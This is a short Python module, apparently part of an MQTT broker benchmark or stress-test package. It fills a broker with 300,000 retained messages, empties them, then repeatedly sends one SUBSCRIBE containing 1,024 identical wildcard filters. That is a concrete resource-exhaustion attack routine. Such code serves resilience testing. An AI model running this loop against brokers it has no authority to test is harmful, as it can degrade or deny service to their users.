# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import READY_S, Broker

FILTERS, RETAINED, PREFIX = 1024, 300_000, "attack/e"


def emptied_topics(broker: Broker) -> Generator[None, None, None]:
    """one SUBSCRIBE of 1 024 times the same filter (10 KB), below which 300 000 messages were retained and one is left"""
    broker.retain(RETAINED, PREFIX)
    with broker.first() as client:
        for low in range(1, RETAINED, 10_000):
            client.send(b"".join(packets.publish(f"{PREFIX}/{i}", b"", retain=True) for i in range(low, min(low + 10_000, RETAINED))), READY_S)
        client.send(packets.PINGREQ, READY_S)
        client.answer(packets.PINGRESP, READY_S)
    yield
    while True:
        with broker.connect() as client:
            client.send(packets.subscribe([f"{PREFIX}/+"] * FILTERS))
            client.read_for(0.2)
        yield
